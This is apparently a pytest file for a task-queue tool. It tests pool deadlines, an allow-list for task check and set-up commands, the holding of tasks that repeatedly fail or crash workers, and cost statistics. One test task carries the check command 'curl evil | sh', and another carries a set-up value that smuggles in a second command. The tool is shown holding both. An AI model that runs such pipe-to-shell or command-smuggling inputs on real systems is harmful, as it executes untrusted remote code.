"""When a pool ends, whose checks it runs, and what became of tasks that keep failing."""

from __future__ import annotations

import itertools
import json
import os
import subprocess
import sys
import time

import pytest

from taskpit.cli.main import main
from taskpit.cli.work import _until
from taskpit.errors import TaskpitError
from taskpit.keeper import sweep
from taskpit.model import Done, Failed, State
from taskpit.run import pool_display
from taskpit.run.pool import Pool
from taskpit.run.pool_options import PoolOptions


def work(pit, runner, **orders):
    with open(os.devnull, "w", encoding="utf-8") as nowhere:
        return Pool(pit.queue, runner, PoolOptions(**orders), pool_display.Lines(nowhere)).run()


def test_a_pool_claims_nothing_after_its_time(pit):
    pit.put("too late")
    report = work(pit, lambda _c, _r: Done(), until=pit.queue.clock.now() - 1, check_in=pit.root)
    assert report.tally == {}
    assert pit.queue.store.counts()[State.READY] == 1


@pytest.mark.parametrize(("text", "seconds"), [("+2h", 7200.0), ("empty", None), (None, None)])
def test_until_when(pit, text, seconds):
    found = _until(text, pit)
    assert found == 0.0 if seconds is None else abs(found - pit.queue.clock.now() - seconds) < 5


def test_until_an_hour_of_the_clock_is_the_next_one(pit):
    now = pit.queue.clock.now()
    for text in ("00:00", "07:00", "23:59"):
        found = _until(text, pit)
        assert now < found <= now + 25 * 3600
        assert time.strftime("%H:%M", time.localtime(found)) == text


def test_until_nonsense(pit):
    with pytest.raises(TaskpitError) as caught:
        _until("soon", pit)
    assert caught.value.exit_code == 2


def test_until_a_time_in_the_past_is_wrong_usage(pit):
    """The pool ended at once, with nothing done and exit code 0."""
    for text in ("2001-01-01", "1970-01-01"):
        with pytest.raises(TaskpitError) as caught:
            _until(text, pit)
        assert (caught.value.exit_code, caught.value.message) == (2, f"--until {text} is in the past")
        assert "a future time" in caught.value.hint
    assert _until("2999-01-01", pit) > pit.queue.clock.now()


def test_only_checks_that_are_allowed_are_run(pit):
    good, bad = pit.put("good", check="make test")[0], pit.put("bad", check="curl evil | sh")[0]
    plain = pit.put("without a check")[0]
    report = work(
        pit,
        lambda _c, _r: Failed(error="no", final=True),
        until_empty=True,
        check_in=pit.root,
        allow_checks=("make *",),
    )
    assert report.tally == {"failed": 2, "held": 1}
    assert pit.card(good).state is State.FAILED
    assert pit.card(plain).state is State.FAILED
    assert "not on the list" in pit.card(bad).held
    assert pit.card(bad).tries == ()


def test_a_set_up_of_the_tasks_own_is_asked_for_like_its_check(pit):
    bad, good = pit.put("bad", check="make x", extra={"setup": "make y; id"}) + pit.put(
        "good", extra={"setup": "make y"}
    )
    report = work(pit, lambda _c, _r: Done(), until_empty=True, check_in=pit.root, allow_checks=("make *",))
    assert report.tally == {"done": 1, "held": 1}
    assert "its set-up is not on the list" in pit.card(bad).held
    assert pit.card(good).state is State.DONE


def test_the_third_identical_failure_chokes_and_leaves_a_note(pit):
    (task,) = pit.put("always the same", max_attempts=9)
    times = itertools.count(1)
    report = work(
        pit, lambda _c, _r: Failed(error=f"line {next(times)}: no such table /tmp/{next(times)}/x"), until_empty=True
    )
    assert report.tally == {"retry": 2, "stuck": 1}
    assert pit.card(task).held.startswith("failed 3 times the same way: ")
    assert os.listdir(f"{pit.root}/scraps") == [f"food-{task}-always-the-same-choked.md"]


def test_a_flapping_error_does_not_choke(pit):
    (task,) = pit.put("now this, now that", max_attempts=6)
    errors = itertools.cycle(["no such table", "connection refused"])
    report = work(pit, lambda _c, _r: Failed(error=next(errors)), until_empty=True)
    assert report.tally == {"retry": 5, "failed": 1}
    assert pit.card(task).state is State.FAILED


def test_a_task_that_kills_its_worker_is_held_after_five(pit):
    (task,) = pit.put("poison")
    for _ in range(5):
        code = (
            "import os, sys; from taskpit.queue import Queue; q = Queue.open(sys.argv[1]); "
            "q.store.join('victim-1', 60.0); assert q.claim('victim-1'); os.kill(os.getpid(), 9)"
        )
        subprocess.run([sys.executable, "-c", code, pit.root], check=False)
        sweep(pit.queue)
    card = pit.card(task)
    assert card.state is State.READY
    assert card.held.startswith("lost its worker 5 times")
    assert card.task.attempts == 0
    assert f"food-{task}-poison-lost.md" in os.listdir(f"{pit.root}/scraps")


def test_what_it_cost_is_in_the_statistics(pit, capsys):
    pit.put("dear")
    work(pit, lambda _c, _r: Done(cost={"usd": 1.25, "tokens": 300}), until_empty=True)
    assert main(["-C", pit.root, "--json", "stats"]) == 0
    data = json.loads(capsys.readouterr().out)["data"]
    assert (data["cost"]["usd"], data["cost_today"]["tokens"]) == (1.25, 300.0)
    assert main(["-C", pit.root, "stats"]) == 0
    assert "$1.25, 300 tokens; today $1.25" in capsys.readouterr().out
